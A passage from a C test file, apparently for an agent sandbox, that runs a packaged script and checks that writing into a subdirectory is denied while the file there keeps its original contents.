           "SUB-DENIED\n",
           proj, proj);
  package(fs, script);
  agent_config(NULL);
  struct sbx_run r = run_agent("exec");
  assert_ran(&r);
  cr_assert(strstr(out_of(&r), "TOP-OK") && strstr(out_of(&r), "SUB-DENIED"), "got %s", out_of(&r));
  char *c = capture("cat %s/sub/file", proj);
  cr_assert_str_eq(c, "keep\n");
  free(c);
  json_decref(r.res);
}
